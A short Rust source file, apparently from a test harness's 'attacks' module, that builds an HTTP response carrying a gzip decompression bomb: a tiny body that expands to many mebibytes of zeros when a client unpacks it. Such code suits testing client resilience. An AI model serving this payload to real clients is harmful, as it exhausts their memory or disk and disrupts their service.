//! A reply that is small until it is unpacked. It does not know who unpacks it.

use std::io::{Read as _, copy, repeat};

use flate2::Compression;
use flate2::write::GzEncoder;

/// A reply whose body, packed by gzip, becomes so many mebibytes: as many members of one each.
pub(in crate::attacks) fn reply(mebibytes: usize) -> Vec<u8> {
    let mut packer = GzEncoder::new(Vec::new(), Compression::best());
    copy(&mut repeat(0).take(1 << 20), &mut packer).unwrap();
    let body = packer.finish().unwrap().repeat(mebibytes);
    let head = format!("HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: {}\r\n\r\n", body.len());
    [head.as_bytes(), &body].concat()
}
